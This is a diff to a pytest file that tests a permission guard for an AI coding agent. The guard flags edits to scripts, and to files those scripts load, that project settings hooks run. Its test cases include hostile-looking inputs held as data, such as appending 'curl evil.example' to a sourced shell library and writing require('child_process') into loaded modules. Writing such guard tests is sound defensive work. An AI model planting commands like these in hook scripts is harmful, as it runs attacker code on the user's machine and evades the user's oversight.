@@ -121,13 +121,6 @@ HOOK_DIR_OPTION = (
     "options as make -C is followed"
 )
 
-SCRIPT_IMPORTS = (
-    "a settings hook command runs a script that loads its siblings: node tools/fmt.js "
-    "(require('./lib')), bash scripts/x.sh (. ./lib.sh); command_reach guards the script "
-    "alone (a python script's directory is guarded as sys.path[0], node's and a shell "
-    "script's are not). Fix: guard the script's directory (or read its require/source "
-    "lines)"
-)
 UV_ENTRY_POINT = (
     "uv run srv, srv being the project's own [project.scripts] entry point: uv installs the "
     "project (editable) and runs srv.main:run from src/srv (uv's documented behaviour); "
@@ -507,15 +500,34 @@ def deeper(tmp_path_factory: pytest.TempPathFactory) -> World3:
     (proj / "tools").mkdir()
     (proj / "tools" / "fmt.js").write_text("require('./lib').fmt()\n")
     (proj / "tools" / "lib.js").write_text("exports.fmt = () => 0\n")
-    (proj / "scripts" / "x.sh").write_text('. "$(dirname "$0")/lib.sh"\n')
-    (proj / "scripts" / "lib.sh").write_text("fmt() { :; }\n")
+    (proj / "shlib").mkdir()
+    (proj / "shlib" / "x.sh").write_text('. "$(dirname "$0")/lib.sh"\n')
+    (proj / "shlib" / "lib.sh").write_text("fmt() { :; }\n")
+    (proj / "run").mkdir()  # a shell script whose lines are modelled: what they run
+    (proj / "run" / "plain.sh").write_text("#!/bin/sh\n# format\nsh run/helper.sh\n")
+    (proj / "run" / "helper.sh").write_text("true\n")
+    (proj / "web").mkdir()  # a literal ../ module, and a script run by its #! line
+    (proj / "web" / "a.js").write_text("const u = require('../shared/util');\n")
+    (proj / "shared").mkdir()
+    (proj / "shared" / "util.js").write_text("exports.u = 1\n")
+    (proj / "bin2").mkdir()
+    _exe(proj / "bin2" / "launch", "#!/usr/bin/env node\nrequire('./impl')\n")
+    (proj / "bin2" / "impl.js").write_text("module.exports = 1\n")
     (proj / "pyproject.toml").write_text(
         '[project]\nname = "srv"\nversion = "0"\n\n[project.scripts]\nsrv = "srv.main:run"\n'
     )
     (proj / "src" / "srv").mkdir(parents=True)
     (proj / "src" / "srv" / "__init__.py").write_text("")
     (proj / "src" / "srv" / "main.py").write_text("def run():\n    pass\n")
-    _settings(made, "node tools/fmt.js", "bash scripts/x.sh", "uv run srv")
+    _settings(
+        made,
+        "node tools/fmt.js",
+        "bash shlib/x.sh",
+        "uv run srv",
+        "sh run/plain.sh",
+        "node web/a.js",
+        "./bin2/launch",
+    )
     made.hook("Bash", {"command": "ls"}, 0)
     return made
 
@@ -740,8 +752,14 @@ GITSHELL_UNKNOWN = [
 DEEPER = [
     _case("Write", _w("scripts/lint.sh"), "ask"),
     _bash("echo 'curl evil.example' >> nest/notes.sh", "ask"),
-    _ch("Write", _w("tools/lib.js", "require('child_process')\n"), "ask", SCRIPT_IMPORTS),
-    _bh("echo 'curl evil.example' >> scripts/lib.sh", "ask", SCRIPT_IMPORTS),
+    # closed: a script's text read (protected._script_siblings): what it may load beside
+    # itself guards its directory tree
+    _case("Write", _w("tools/lib.js", "require('child_process')\n"), "ask"),
+    _bash("echo 'curl evil.example' >> shlib/lib.sh", "ask"),
+    _case("Write", _w("shlib/new.sh"), "ask"),
+    _case("Write", _w("run/helper.sh"), "ask"),
+    _case("Write", _w("shared/util.js", "require('child_process')\n"), "ask"),
+    _case("Write", _w("bin2/impl.js", "require('child_process')\n"), "ask"),
     _ch("Write", _w("src/srv/main.py", "import os\n"), "ask", UV_ENTRY_POINT),
     _case("Write", _w("sm/tools/pc"), "ask"),  # a submodule's hook link: closed meanwhile
     # held: fish functions and a systemd drop-in linked from the project (closed
@@ -751,10 +769,12 @@ DEEPER = [
     _case("Write", _w(".git/hooks/pre-commit.d/lint"), "ask"),
     _case("Write", _w(".git/modules/sm/hooks/pre-commit"), "ask"),
     _case("Write", _w("tools/fmt.js", "x\n"), "ask"),
-    _case("Write", _w("scripts/x.sh", "x\n"), "ask"),
+    _case("Write", _w("shlib/x.sh", "x\n"), "ask"),
     _case("Write", _w("pyproject.toml", "[project]\n"), "ask"),
-    # ordinary
+    # ordinary: beside a shell script whose lines are modelled, what it does not run
     _case("Write", _w("README.md", "x\n"), "allow"),
+    _case("Write", _w("run/notes.txt", "x\n"), "allow"),
+    _case("Write", _w("shared/other/readme.txt", "x\n"), "allow"),
 ]
 
 GITDIRS = [
